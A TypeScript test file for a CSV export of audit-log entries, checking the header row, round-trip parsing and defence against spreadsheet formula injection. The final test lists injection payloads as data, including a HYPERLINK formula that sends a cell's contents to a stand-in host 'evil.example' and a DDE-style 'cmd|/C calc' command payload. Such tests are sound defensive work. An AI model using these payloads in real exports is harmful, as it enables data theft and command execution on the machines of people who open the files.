import fc from 'fast-check';
import type { AuditEntryAnswer } from '@dateline/contract';
import { toCsv } from './to-csv';

const entry: AuditEntryAnswer = {
  sequence: 7,
  at: '2026-03-02T07:00:00.000Z',
  actor: 'imke@example.com',
  actorName: 'Imke',
  account: 7,
  action: 'release.approve',
  releaseId: '9b2f9e2c-3c8f-5a53-9c39-0d9d3d7a8d11',
  subject: null,
  editionNumber: null,
  fromHash: null,
  contentHash: 'a'.repeat(64),
  recordHash: null,
  reason: null,
  previousHash: '0'.repeat(64),
  hash: 'b'.repeat(64),
  headline: 'Two Ferries',
};

async function write(...entries: AuditEntryAnswer[]): Promise<string> {
  async function* each() {
    yield* entries;
  }
  let text = '';
  for await (const line of toCsv(each())) text += line;
  return text;
}

/** A reader after RFC 4180, section 2. */
function parse(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  for (let match = cell.exec(csv); match !== null; match = cell.exec(csv)) {
    row.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? '');
    if (match[3] === ',') continue;
    rows.push(row);
    row = [];
    if (cell.lastIndex === csv.length) return rows;
  }
  throw new Error('not CSV');
}

test('the names of the columns come first, and every line ends as RFC 4180 wants it', async () => {
  const csv = await write(entry);
  expect(csv.split('\r\n')).toEqual([
    'sequence,at,actor,action,releaseId,headline,subject,editionNumber,fromHash,contentHash,recordHash,reason,previousHash,hash,account,actorName',
    `7,2026-03-02T07:00:00.000Z,imke@example.com,release.approve,${entry.releaseId},Two Ferries,,,,${'a'.repeat(64)},,,${'0'.repeat(64)},${'b'.repeat(64)},7,Imke`,
    '',
  ]);
});

test('any words come back as they were, whatever commas, quotes and lines they hold', async () => {
  const anyWords = fc.string({ unit: fc.constantFrom('a', ',', '"', '\r', '\n', ' ', 'ß', '\t') });
  await fc.assert(
    fc.asyncProperty(anyWords, anyWords, async (reason, headline) => {
      const [, row] = parse(
        await write({ ...entry, reason: `x${reason}`, headline: `x${headline}` }),
      );
      expect(row?.[11]).toBe(`x${reason}`);
      expect(row?.[5]).toBe(`x${headline}`);
      expect(row).toHaveLength(16);
    }),
  );
});

test.each([
  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  '+1+cmd|/C calc!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '\n=1',
])('a spreadsheet takes %j for words and no formula', async (attack) => {
  const rows = parse(await write({ ...entry, reason: attack, actor: attack, headline: attack }));
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
  expect(rows[1]?.[11]).toBe(`'${attack}`);
});
